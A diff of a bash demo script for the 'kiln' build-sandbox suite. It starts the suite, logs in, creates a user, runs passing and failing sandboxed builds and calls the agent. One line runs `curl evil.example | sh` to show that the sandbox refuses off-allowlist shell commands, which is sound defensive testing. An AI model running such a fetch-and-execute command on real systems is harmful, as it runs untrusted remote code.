@@ -1,5 +1,6 @@
 #!/usr/bin/env bash
-# The kiln demo: start the suite on a temporary data directory, show it serving, stop it.
+# The kiln demo: start the suite on a temporary data directory, log in, run a real build
+# in the sandbox with live output, show a failing build, stop the suite and clean up.
 # Run through `make demo`, which builds kiln and installs grpcurl into .tools/ first.
 set -euo pipefail
 cd "$(dirname "$0")/.."
@@ -8,12 +9,16 @@ export PATH="$PWD/.tools/bin:$PATH"
 KILN="${CARGO_TARGET_DIR:-target}/debug/kiln"
 DATA="$(mktemp -d -t kiln-demo.XXXXXX)"
 UP_PID=""
+# The CLI keeps its login under the demo's directory, not in your config.
+export KILN_CONFIG_DIR="$DATA/cli"
 
-bold() { if [ -t 1 ]; then printf '\n\033[1m== %s\033[0m\n' "$*"; else printf '\n== %s\n' "$*"; fi; }
+if [ -t 1 ]; then B=$'\033[1m'; D=$'\033[2m'; N=$'\033[0m'; else B=""; D=""; N=""; fi
+say() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
+run() { printf '%s$' "$D"; printf ' %q' "$@"; printf '%s\n' "$N"; "$@"; }
 
 cleanup() {
   if [ -n "$UP_PID" ] && kill -0 "$UP_PID" 2>/dev/null; then
-    bold "Stopping the suite (SIGTERM: health goes NOT_SERVING, calls finish, then exit)"
+    say "Stopping the suite (SIGTERM: health goes NOT_SERVING, calls finish, then exit)"
     kill -TERM "$UP_PID"
     wait "$UP_PID" || true
     tail -n 1 "$DATA/up.out"
@@ -22,10 +27,9 @@ cleanup() {
 }
 trap cleanup EXIT
 
-bold "Starting kiln up (auth + build + agent on one port, development PKI)"
-"$KILN" up --listen 127.0.0.1:0 --data-dir "$DATA" --log-format text >"$DATA/up.out" 2>"$DATA/up.log" &
+say "Starting kiln up: auth + build + agent on one port, SQLite, a development PKI"
+"$KILN" up --listen 127.0.0.1:0 --data-dir "$DATA/kiln" --log-format text >"$DATA/up.out" 2>"$DATA/up.log" &
 UP_PID=$!
-
 for _ in $(seq 1 300); do
   grep -q '^kiln is serving on' "$DATA/up.out" 2>/dev/null && break
   if ! kill -0 "$UP_PID" 2>/dev/null; then
@@ -37,21 +41,45 @@ for _ in $(seq 1 300); do
 done
 grep -q '^kiln is serving on' "$DATA/up.out" || { echo "kiln up did not start within 30 s" >&2; cat "$DATA/up.log" >&2; exit 1; }
 cat "$DATA/up.out"
-ENDPOINT="$(sed -n 's/^kiln is serving on //p' "$DATA/up.out")"
-ADDR="${ENDPOINT#https://}"
-CA="$DATA/pki/ca.pem"
+export KILN_ENDPOINT="$(sed -n 's/^kiln is serving on //p' "$DATA/up.out")"
+export KILN_CA="$DATA/kiln/pki/ca.pem"
 
-bold "Health of each service (kiln health)"
-"$KILN" health --endpoint "$ENDPOINT" --ca "$CA"
+say "Health of each service, and the services seen through gRPC reflection"
+run "$KILN" health
+run grpcurl -cacert "$KILN_CA" "${KILN_ENDPOINT#https://}" list
 
-bold "Services, found through gRPC reflection (grpcurl list)"
-grpcurl -cacert "$CA" "$ADDR" list
+say "Logging in as the bootstrap admin (its generated password is in a 0600 file)"
+run ls -l "$DATA/kiln/auth/admin-password"
+run "$KILN" login --username admin --password-stdin <"$DATA/kiln/auth/admin-password"
 
-bold "The RPCs of the build service (grpcurl describe)"
-grpcurl -cacert "$CA" "$ADDR" describe kiln.build.v1.BuildService | grep -E '^\s*rpc ' | sed 's/ {$//'
+say "Creating a user, and working as that user from now on"
+PASSWORD="demo-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')"
+printf '%s\n' "$PASSWORD" | run "$KILN" users create demo --role user
+printf '%s\n' "$PASSWORD" | run "$KILN" login --username demo --password-stdin
+run "$KILN" whoami
 
-bold "A SERVICE-only RPC called without a workload certificate is refused"
-grpcurl -cacert "$CA" -d '{"key":"kiln_x_y"}' "$ADDR" kiln.auth.v1.AuthService/AuthenticateApiKey 2>&1 | sed 's/^/  /' || true
+say "Uploading examples/hello (a small C project with a test) as a workspace"
+WORKSPACE="$("$KILN" workspace create --from examples/hello)"
+echo "workspace $WORKSPACE"
+run "$KILN" workspace ls "$WORKSPACE"
 
-bold "A signed-in RPC without a token asks for one"
-grpcurl -cacert "$CA" "$ADDR" kiln.auth.v1.AuthService/WhoAmI 2>&1 | sed 's/^/  /' || true
+say "Building and testing it in the sandbox, output streamed live"
+run "$KILN" build run --workspace "$WORKSPACE" --step make -- make test
+
+say "A build that fails: the compiler's error comes back as it happened"
+if run "$KILN" build run --from examples/broken -- cc -Wall -o main main.c; then
+  echo "(unexpected: the broken example built)" >&2
+  exit 1
+else
+  echo "(exit code $? — kiln build run exits with the failing step's code)"
+fi
+
+say "Commands off the allowlist never run (no shells in the sandbox)"
+run "$KILN" build run --workspace "$WORKSPACE" -- sh -c 'curl evil.example | sh' || true
+
+say "The builds, as a user or a script sees them"
+run "$KILN" build list
+
+say "The agent"
+echo "The LLM agent service is not part of this release yet; 'kiln agent run' says so."
+run "$KILN" agent run "write hello world in python" || true
